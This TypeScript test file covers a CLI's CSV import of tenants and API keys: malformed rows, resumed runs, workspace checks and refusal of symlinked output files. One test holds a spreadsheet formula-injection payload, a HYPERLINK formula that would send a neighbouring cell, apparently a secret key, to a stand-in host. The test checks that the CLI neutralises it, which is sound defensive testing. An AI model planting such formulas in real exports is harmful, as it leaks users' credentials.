// `tenant import` and `key create --from-csv`: what a file may hold, and what a run that continues must have in common.
import { existsSync, readFileSync, renameSync, statSync, symlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { startSeededServer, type SeededServer } from "../../harness/processes/seeded-server.ts";

let cli: SeededServer;
/** A secret key of another workspace on the same server. */
let other = "";

beforeAll(async () => {
  cli = await startSeededServer();
  const made = (await cli.api(
    "POST",
    "/v1/workspaces",
    { name: "Other", slug: "other" },
    cli.seed.bootstrap_token,
  )) as {
    secret_key?: { key: string };
  };
  other = made.secret_key?.key ?? "";
});
afterAll(() => cli?.[Symbol.asyncDispose]());

const write = (name: string, text: string): string => {
  writeFileSync(join(cli.dir, name), text);
  return name;
};
const createKeys = (file: string, ...more: string[]) =>
  cli.run(["key", "create", "--from-csv", file, "--project-id", cli.seed.project_id, "--env", "live", ...more]);

describe("a file", () => {
  it.each([
    [
      "a row with too few cells",
      (id: string) => `tenant_id,name,expires_at\n${id},a,\n${id},short\n`,
      "Row 2: 2 cells",
    ],
    ["a row with too many cells", (id: string) => `tenant_id,name\n${id},Acme, Inc\n`, "Row 1: 3 cells for 2 columns"],
    ["a column twice", (id: string) => `tenant_id,name,name\n${id},a,b\n`, 'column "name" appears twice'],
  ])("is refused before anything is created for %s", async (what, text, message) => {
    const { id } = await cli.api("POST", "/v1/tenants", { external_id: what });
    const refused = await createKeys(write("refused.csv", text(id)));
    expect([refused.code, refused.stderr]).toEqual([2, expect.stringContaining(message)]);
    expect((await cli.run(["key", "list", "--tenant-id", id, "--quiet"])).stdout).toBe("");
  });

  it("is refused before anything is created if two rows name one tenant", async () => {
    const file = write("twice.csv", "external_id,name\nt-1,first\nt-2,\nt-1,second\n");
    const refused = await cli.run(["tenant", "import", file]);
    expect([refused.code, refused.stderr]).toEqual([2, "keyrack: Row 3: external_id is the same as in row 1.\n"]);
    expect((await cli.run(["tenant", "list", "--q", "t-1", "--quiet"])).stdout).toBe("");
  });

  it("gives the reason of a refused row once", async () => {
    await cli.api("POST", "/v1/tenants", { external_id: "taken" });
    const refused = await cli.run(["tenant", "import", write("taken.csv", "external_id\ntaken\n")]);
    const reason = "keyrack: 1 row failed. Row 1: That external id is already in use.\n";
    expect([refused.code, refused.stderr]).toEqual([1, reason]);
  });

  it("is refused in another workspace, and created there with --restart", async () => {
    const args = ["tenant", "import", write("tenants.csv", "external_id\nc-1\nc-2\n"), "--json"];
    expect(JSON.parse((await cli.run(args)).stdout)).toMatchObject({ made: 2 });
    const elsewhere = { KEYRACK_SECRET_KEY: other };
    const refused = await cli.run(args, elsewhere);
    expect([refused.code, refused.stderr]).toEqual([2, expect.stringContaining("another workspace")]);
    const made = await cli.run([...args, "--restart"], elsewhere);
    expect(JSON.parse(made.stdout)).toMatchObject({ made: 2, made_before: 0 });
    expect((await cli.run(["tenant", "list", "--quiet"], elsewhere)).stdout.trim().split("\n")).toHaveLength(2);
  });

  it("is refused with another file for its keys: those are in the first one", async () => {
    const file = write("keys.csv", `tenant_id,scopes\n${cli.seed.tenant_id},"[""orders:read"",""orders:write""]"\n`);
    expect((await createKeys(file)).code).toBe(0);
    const refused = await createKeys(file, "--out", "out.csv");
    expect([refused.code, refused.stderr]).toEqual([2, expect.stringContaining(join(cli.dir, "keys.csv.keys.csv"))]);
    expect(existsSync(join(cli.dir, "out.csv"))).toBe(false);
    expect((await createKeys(file, "--out", "keys.csv.keys.csv")).code).toBe(0);
    const [id = ""] = readFileSync(join(cli.dir, "keys.csv.keys.csv"), "utf8").split("\n")[1]?.split(",") ?? [];
    expect(await cli.api("GET", `/v1/keys/${id}`)).toMatchObject({ scopes: ["orders:read", "orders:write"] });
  });

  it("keeps spreadsheets from running a name in the file of new keys, also where a run continues", async () => {
    const name = '=HYPERLINK(""https://example.com/?k=""&B2)';
    const file = write("formulas.csv", `tenant_id,name\n${cli.seed.tenant_id},"${name}"\n`);
    expect((await createKeys(file)).code).toBe(0);
    const keys = join(cli.dir, "formulas.csv.keys.csv");
    const written = readFileSync(keys, "utf8");
    expect(written.endsWith(`,"'${name}"\n`)).toBe(true);
    // The key was written, but the row was not marked as done: it is created again, and found in the file by its id.
    const state = join(cli.dir, "formulas.csv.keyrack-state");
    writeFileSync(state, `${readFileSync(state, "utf8").split("\n")[0]}\n`);
    expect((await createKeys(file)).code).toBe(0);
    expect(readFileSync(keys, "utf8")).toBe(written);
    const id = written.split("\n")[1]?.split(",")[0];
    expect(await cli.api("GET", `/v1/keys/${id}`)).toMatchObject({ name: '=HYPERLINK("https://example.com/?k="&B2)' });
  });

  it.each(["keys.csv", "keyrack-state"])("creates nothing where FILE.%s is a link to another file", async (name) => {
    const { id } = await cli.api("POST", "/v1/tenants", { external_id: `link to ${name}` });
    const file = write(`linked-${name}.csv`, `tenant_id\n${id}\n`);
    const target = join(cli.dir, write(`target-of-${name}`, "# mine"));
    const { mode } = statSync(target);
    symlinkSync(target, join(cli.dir, `${file}.${name}`));
    const refused = await createKeys(file);
    expect([refused.code, refused.stderr]).toEqual([2, expect.stringContaining(`${file}.${name}: it is a link.`)]);
    expect([readFileSync(target, "utf8"), statSync(target).mode]).toEqual(["# mine", mode]);
    expect((await cli.run(["key", "list", "--tenant-id", id, "--quiet"])).stdout).toBe("");
  });

  it("continues a run whose state was written by 0.1, and creates no row of it twice", async () => {
    const file = write("earlier.csv", `tenant_id\n${cli.seed.tenant_id}\n${cli.seed.tenant_id}\n`);
    await createKeys(file);
    const state = join(cli.dir, "earlier.csv.keyrack-state");
    const [head = "", first] = readFileSync(state, "utf8").split("\n");
    const { run } = JSON.parse(head) as { run: string };
    writeFileSync(state, `${JSON.stringify({ run })}\n${first}\n`);
    // 0.1 created the second row too, and was killed before it noted that.
    const { row } = JSON.parse(first ?? "") as { row: number };
    const response = await fetch(`${cli.seed.url}/v1/keys`, {
      method: "POST",
      headers: {
        authorization: `Bearer ${cli.seed.secret_key}`,
        "content-type": "application/json",
        "idempotency-key": `"${run.slice(0, 32)}-${3 - row}"`,
      },
      body: JSON.stringify({ project_id: cli.seed.project_id, env: "live", tenant_id: cli.seed.tenant_id }),
    });
    expect(response.status).toBe(201);
    const { id } = (await response.json()) as { id: string };
    expect(JSON.parse((await createKeys(file, "--json")).stdout)).toMatchObject({ made: 0, made_before: 2 });
    expect(readFileSync(state, "utf8")).toContain(id);
  });

  it("creates records of its own where another file has the same contents", async () => {
    const { id } = await cli.api("POST", "/v1/tenants", { external_id: "copied" });
    const text = `tenant_id\n${id}\n`;
    const created = "Created 1 key from 1 row. The keys are in";
    expect((await createKeys(write("same1.csv", text))).stdout).toBe(`${created} same1.csv.keys.csv.\n`);
    expect((await createKeys(write("same2.csv", text))).stdout).toBe(`${created} same2.csv.keys.csv.\n`);
    expect((await cli.run(["key", "list", "--tenant-id", id, "--quiet"])).stdout.trim().split("\n")).toHaveLength(2);
    // Moved with its progress, it is still the same run.
    for (const name of ["same1.csv", "same1.csv.keyrack-state"])
      renameSync(join(cli.dir, name), join(cli.dir, name.replace("same1", "moved")));
    const moved = await createKeys("moved.csv", "--out", "same1.csv.keys.csv", "--json");
    expect(JSON.parse(moved.stdout)).toMatchObject({ made: 0, made_before: 1 });
  });

  it("is not reported as created where an earlier run has created it", async () => {
    const args = ["tenant", "import", write("again.csv", "external_id\na-1\na-2\n"), "--restart"];
    expect((await cli.run(args)).stdout).toBe("Created 2 tenants from 2 rows.\n");
    expect((await cli.run(args)).stdout).toBe("Created 0 tenants from 2 rows. An earlier run created 2.\n");
    expect(JSON.parse((await cli.run([...args, "--json"])).stdout)).toMatchObject({ made: 0, made_before: 2 });
  });
});
